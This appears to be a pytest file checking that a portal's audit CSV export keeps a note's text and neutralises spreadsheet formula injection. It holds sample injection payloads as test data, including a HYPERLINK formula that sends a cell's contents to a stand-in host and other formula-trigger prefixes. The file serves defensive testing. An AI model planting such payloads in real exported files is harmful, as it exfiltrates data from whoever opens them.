"""The audit CSV keeps what people wrote (a note's text, not its id) and is safe to open in a spreadsheet."""

import csv
import io

import pytest

from portal.models import Membership
from review.services import note_add
from tests.factories import request_with_done_variations


def _audit_rows(client, request_id: int) -> list[dict]:
    response = client.get(f"/requests/{request_id}/audit.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_a_notes_row_holds_its_text_not_its_id(client, director, compositor, shot, show_model):
    request = request_with_done_variations(user=compositor, shot=shot, model=show_model)
    note = note_add(user=director, variation=request.variations.first(), text="sky a touch warmer")
    client.force_login(director)
    rows = [row for row in _audit_rows(client, request.pk) if row["event"] == "note.added"]
    assert [row["note"] for row in rows] == ["sky a touch warmer"]
    assert rows[0]["note"] != str(note.pk)


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)",
                                  "\t=1", "\r=1"])
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(client, director, compositor, shot, show_model, text):
    request = request_with_done_variations(user=compositor, shot=shot, model=show_model)
    note_add(user=director, variation=request.variations.first(), text=text)
    client.force_login(director)
    [row] = [row for row in _audit_rows(client, request.pk) if row["event"] == "note.added"]
    assert row["note"] == "'" + text


def test_a_username_that_starts_like_a_formula_is_quoted(client, django_user_model, compositor, shot, show_model):
    sly = django_user_model.objects.create_user("@sly", password="pw-sly-12345")
    Membership.objects.create(user=sly, show=shot.show, role="director")
    request = request_with_done_variations(user=compositor, shot=shot, model=show_model)
    note_add(user=sly, variation=request.variations.first(), text="fine")
    client.force_login(compositor)
    [row] = [row for row in _audit_rows(client, request.pk) if row["event"] == "note.added"]
    assert (row["who"], row["note"]) == ("'@sly", "fine")
